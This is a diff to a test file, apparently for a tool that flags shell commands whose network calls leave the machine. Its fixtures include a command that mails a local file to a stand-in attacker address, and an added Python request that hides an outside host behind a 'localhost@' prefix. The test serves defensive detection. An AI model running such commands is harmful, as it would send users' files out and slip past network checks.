@@ -364,6 +364,9 @@ t.test('calls that leave the machine are told from those that do not', async (t)
     ['npm install left-pad', []],
     ['mail -s hi eve@drop.example < a.txt', ['message! eve@drop.example']],
     ['rm -rf build && make', []],
+    [`python3 -c "import requests; requests.get('https://127.0.0.1:8888/tree')"`, []],
+    [`python3 -c "import requests; requests.get('http://localhost@drop.example/')"`, ['network drop.example']],
+    [`python3 -c "import requests; requests.get('/' + base)"`, ['network! ']],
   ];
   for (const [command, ways] of shell) t.strictSame(outbound(bash(command)), ways, command);
   const tools: [name: string, input: Record<string, unknown>, ways: string[]][] = [
